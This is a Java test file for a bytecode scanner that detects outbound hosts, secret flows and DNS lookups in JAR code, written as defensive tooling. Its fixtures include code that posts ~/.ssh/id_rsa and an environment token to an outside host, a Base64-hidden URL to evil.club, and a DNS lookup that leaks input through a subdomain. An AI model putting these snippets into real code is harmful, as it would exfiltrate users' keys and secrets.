package dev.assay.scanners.jvm;

import static org.assertj.core.api.Assertions.assertThat;

import dev.assay.scanners.finding.FindingKind;
import dev.assay.scanners.finding.Via;
import dev.assay.scanners.profile.Fact;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** Hosts that code calls, told from those that it only names, and what it sends there. */
class BytecodeDestinationsTest {

    @ParameterizedTest
    @ValueSource(
            strings = {
                "var client = java.net.http.HttpClient.newHttpClient(); return client.send(java.net.http.HttpRequest.newBuilder(java.net.URI.create(ADDRESS)).build(), java.net.http.HttpResponse.BodyHandlers.ofString());",
                "return java.net.http.HttpRequest.newBuilder().uri(new java.net.URI(ADDRESS)).GET().build();",
                "return new java.net.URL(ADDRESS).openStream();",
                "return java.net.URI.create(ADDRESS).toURL().openConnection();",
                "return new java.net.Socket(\"api.vendor.dev\", 443);",
                "var s = new java.net.Socket(); s.connect(new java.net.InetSocketAddress(\"api.vendor.dev\", 443)); return s;",
                "return org.springframework.web.client.RestClient.create(ADDRESS).post().uri(\"/x\").body(text).retrieve().body(String.class);",
                "return new org.springframework.web.client.RestTemplate().postForObject(ADDRESS, Map.of(\"a\", text), String.class);",
                "return new okhttp3.OkHttpClient().newCall(new okhttp3.Request.Builder().url(ADDRESS).build()).execute();"
            })
    void knowsTheHostsOfClients(String body) {
        for (var url :
                new String[] {
                    "\"https://api.vendor.dev/v1\"",
                    "(\"https://api.\" + \"vendor.dev/v1/\" + text)",
                    "\"https://%s/v1\".formatted(\"api.vendor.dev\")",
                    "new StringBuilder(\"https://\").append(\"api.vendor.dev\").append('/').append(text.length()).toString()"
                }) {
            assertThat(Jars.body(body.replace("ADDRESS", url)).contacted())
                    .as(url)
                    .containsExactly("api.vendor.dev");
        }
    }

    @Test
    void tellsAHostThatIsOnlyNamed() {
        var jar = Jars.body("return \"see https://docs.vendor.dev/help\";");
        assertThat(jar.mentioned()).containsExactly("docs.vendor.dev");
        assertThat(jar.contacted()).isEmpty();
    }

    @Test
    void tellsHowAHostIsHidden() {
        assertThat(
                        Jars.body(
                                        "return new java.net.URL(new String(Base64.getDecoder().decode(\"aHR0cHM6Ly9ldmlsLmNsdWIveA==\"))).openStream();")
                                .facts(FindingKind.OUTBOUND_DOMAIN))
                .filteredOn(fact -> fact.detail().get("contacted").equals(true))
                .singleElement()
                .satisfies(fact -> assertThat(fact.value()).isEqualTo("evil.club"))
                .extracting(Fact::via)
                .isEqualTo(Via.DECODED);
    }

    @Test
    void followsAnAddressThroughFieldsAndMethodsOfTheJar() {
        assertThat(
                        Jars.of(
                                        "package a; public class Main { private final String base; Main(String base) { this.base = base; } public void act(String x) throws Exception { Sender.send(base + \"/v1\", x); } }")
                                .with(
                                        "package a; class Sender { static void send(String to, String what) throws Exception { var c = (java.net.HttpURLConnection) new java.net.URL(to).openConnection(); c.getOutputStream().write(what.getBytes()); } }")
                                .with(
                                        "package a; public class Maker { public static Main make() { return new Main(\"https://api.vendor.dev\"); } }")
                                .contacted())
                .contains("api.vendor.dev");
    }

    @Test
    void tellsTheFieldsOfWhatIsSentAndWhichAreConstant() {
        var facts =
                Jars.body(
                                "var body = new HashMap<String, Object>(); body.put(\"Subject\", text); body.put(\"Tag\", \"fixed\");"
                                        + " return org.springframework.web.client.RestClient.create(\"https://api.vendor.dev\").post().uri(\"/mail\").header(\"X-Key\", System.getenv(\"VENDOR_TOKEN\")).body(body).retrieve();")
                        .facts(FindingKind.PAYLOAD_FIELD);
        assertThat(facts)
                .extracting(Fact::value)
                .contains(
                        "api.vendor.dev Subject",
                        "api.vendor.dev Tag",
                        "api.vendor.dev headers.X-Key");
        assertThat(facts)
                .filteredOn(fact -> fact.value().endsWith(" Tag"))
                .singleElement()
                .extracting(fact -> fact.detail().get("constant"))
                .isEqualTo("fixed");
    }

    @Test
    void tellsWhichSecretsGoWhere() {
        assertThat(
                        Jars.body(
                                        "var request = java.net.http.HttpRequest.newBuilder(java.net.URI.create(\"https://api.vendor.dev/x\")).header(\"Authorization\", \"Bearer \" + System.getenv(\"VENDOR_TOKEN\"))"
                                                + ".POST(java.net.http.HttpRequest.BodyPublishers.ofString(java.nio.file.Files.readString(java.nio.file.Path.of(System.getProperty(\"user.home\"), \".ssh\", \"id_rsa\")))).build();"
                                                + " return java.net.http.HttpClient.newHttpClient().send(request, java.net.http.HttpResponse.BodyHandlers.ofString());")
                                .values(FindingKind.SECRET_FLOW))
                .contains("VENDOR_TOKEN -> api.vendor.dev", "file:~/.ssh/id_rsa -> api.vendor.dev");
    }

    @Test
    void tellsACallByItsMethodHostAndPath() {
        assertThat(
                        Jars.body(
                                        "return new org.springframework.web.client.RestTemplate().postForObject(\"https://api.vendor.dev/v1/send\", text, String.class);")
                                .values(FindingKind.NETWORK_CALL))
                .containsExactly("RestTemplate.postForObject POST api.vendor.dev/v1/send");
    }

    @Test
    void tellsALookUpOfAName() {
        assertThat(
                        Jars.body("return java.net.InetAddress.getByName(text + \".x.evil.club\");")
                                .values(FindingKind.DNS_LOOKUP))
                .hasSize(1);
    }
}
